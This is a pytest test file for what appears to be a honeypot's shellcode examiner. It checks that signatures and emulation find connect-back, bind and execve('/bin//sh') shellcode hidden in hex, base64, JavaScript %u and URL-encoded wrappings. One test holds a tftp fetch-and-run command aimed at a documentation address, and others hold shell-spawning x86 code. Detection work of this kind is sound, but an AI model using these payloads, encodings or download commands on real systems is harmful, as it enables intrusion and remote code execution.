"""Signatures and emulation together: what is wished, and what comes out of wrappings."""

from __future__ import annotations

import base64

import pytest

from eudaemon.payload.shellcode.behaviour import (
    WISHES_MAX,
    Behaviour,
    Connects,
    Downloads,
    Executes,
    Listens,
    RunsReceived,
    Transfers,
    wishes,
)
from eudaemon.payload.shellcode.examine import examine
from eudaemon.world.host import Host
from eudaemon.world.outside import Download
from eudaemon.world.seed import Seed
from payload.shellcode.assembling import assemble, under_xor, windows32
from payload.shellcode.shellcodes import SHELLCODES, connect_back_cmd, second_stage

HOST = Host.from_seed(Seed(b"test"))


def percent_u(code: bytes) -> bytes:
    code += b"\x90" * (len(code) % 2)
    words = (f"%u{code[at + 1]:02x}{code[at]:02x}" for at in range(0, len(code), 2))
    return f"<script>var s = unescape('{''.join(words)}');</script>".encode()


@pytest.mark.parametrize("wrap", [
    lambda code: code, lambda code: code.hex().encode(), base64.b64encode, percent_u,
    lambda code: b"GET /a?b=" + "".join(f"%{byte:02x}" for byte in code).encode() + b" HTTP/1.1\r\n\r\n",
    lambda code: "".join(f"\\x{byte:02x}" for byte in code).encode(),
])  # fmt: skip
def test_a_shellcode_is_found_in_its_wrapping(wrap) -> None:  # type: ignore[no-untyped-def]
    findings = examine(wrap(connect_back_cmd()), HOST)
    assert findings.behaviours == SHELLCODES["windows connect back, cmd"][2]


def test_what_a_command_would_fetch_is_wished() -> None:
    command = "cmd /c tftp -g -l x.exe -r x.exe 203.0.113.9"
    findings = examine(windows32(f'push 0\ntext "{command}"\napi WinExec\npush 0\napi ExitProcess'), HOST)
    assert findings.behaviours == (Executes(command),)
    assert [download.url for download in findings.downloads] == ["tftp://203.0.113.9/x.exe"]
    assert findings.sentences() == [f"executes {command}", "would fetch tftp://203.0.113.9/x.exe"]


def test_what_a_first_stage_would_be_sent_is_wished() -> None:
    assert examine(second_stage(), HOST).downloads == (Download("tcp://203.0.113.7:4444/", "shellcode"),)
    # A shell's connection brings a person or a script that speaks first: nothing to fetch.
    assert examine(connect_back_cmd(), HOST).downloads == ()


@pytest.mark.parametrize(("behaviours", "urls"), [
    ([Downloads("http://h/a", "c:\\x\\a.exe"), Downloads("http://h/a")], ["http://h/a"]),
    ([Connects("192.0.2.1", 80), Transfers("x")], ["tcp://192.0.2.1:80/"]),
    ([Connects("2001:db8::1", 80), RunsReceived()], ["tcp://[2001:db8::1]:80/"]),
    ([Connects("192.0.2.1", 80, "udp"), RunsReceived()], []),
    ([Listens("0.0.0.0", 8080), RunsReceived()], ["creceive://0.0.0.0:8080/"]),
    ([Listens("0.0.0.0", 8080)], []),
    ([Downloads(f"http://h/{n}") for n in range(WISHES_MAX)], [f"http://h/{n}" for n in range(WISHES_MAX)]),
    ([Downloads(f"http://h/{n}") for n in range(WISHES_MAX + 1)], [f"http://h/{n}" for n in range(WISHES_MAX)]),
])  # fmt: skip
def test_wishes(behaviours: list[Behaviour], urls: list[str]) -> None:
    assert [wish.url for wish in wishes(behaviours)] == urls
    assert all(wish.tool == "shellcode" for wish in wishes(behaviours))


def test_a_download_bears_the_name_it_was_to_get() -> None:
    assert list(wishes([Downloads("http://h/a", "c:\\x\\a.exe")])) == [Download("http://h/a", "shellcode", "a.exe")]


def test_emulation_is_believed_before_signatures() -> None:
    """The address is there as a constant, but the code never gets to it."""
    door = b"\x66\x68\x11\x5c\x66\x53"
    code = assemble("x86", "xor eax, eax\npush eax\npush 0x68732f2f\npush 0x6e69622f\nmov ebx, esp\nmov ecx, eax\n"
                           "mov edx, eax\nmov al, 11\nint 0x80\n") + door  # fmt: skip
    findings = examine(code, HOST)
    assert [signature.behaviour for signature in findings.signatures] == [Listens("0.0.0.0", 4444)]
    assert findings.behaviours == (Executes("/bin//sh"),)


def test_without_unicorn_signatures_are_believed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("eudaemon.payload.shellcode.examine.find_spec", lambda _: None)
    findings = examine(under_xor(connect_back_cmd(), 3), HOST)
    assert (findings.emulated, findings.report) == (False, None)
    assert findings.behaviours == (Connects("203.0.113.7", 4444),)
